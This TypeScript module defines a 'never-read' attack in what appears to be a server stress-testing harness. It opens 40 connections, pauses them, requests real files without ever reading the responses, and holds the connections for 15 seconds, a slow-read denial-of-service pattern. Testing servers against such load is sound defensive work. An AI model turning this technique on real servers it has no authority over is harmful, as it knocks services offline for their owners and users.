import {formatGetRequest} from '../../protocol/get-request.ts';
import {sendCrowd} from '../crowd.ts';
import {serverAttack} from '../server-attack.ts';
import {pause} from '../wire.ts';

const CONNECTIONS = 40;

/** How long the answers are left lying, in milliseconds. */
const HOLD_MS = 15_000;

/** Orders the largest dishes and does not eat: a victim that waits for one reader, or buffers for all, is done for. */
export const neverRead = serverAttack({
	name: 'never-read',
	title: `asks for real files on ${CONNECTIONS} connections and never reads the answers`,
	async strikeAt(prey, scene) {
		let next = 0;
		const sockets = await sendCrowd(prey, scene, {
			attack: 'never-read',
			connections: CONNECTIONS,
			overMs: 500,
			each(socket) {
				socket.pause();
				socket.write(formatGetRequest(prey.files[next++ % prey.files.length] ?? 'cat1.jpg'), 'latin1');
			},
		});
		await pause(HOLD_MS, scene.signal);
		for (const socket of sockets) {
			socket.destroy();
		}
	},
});
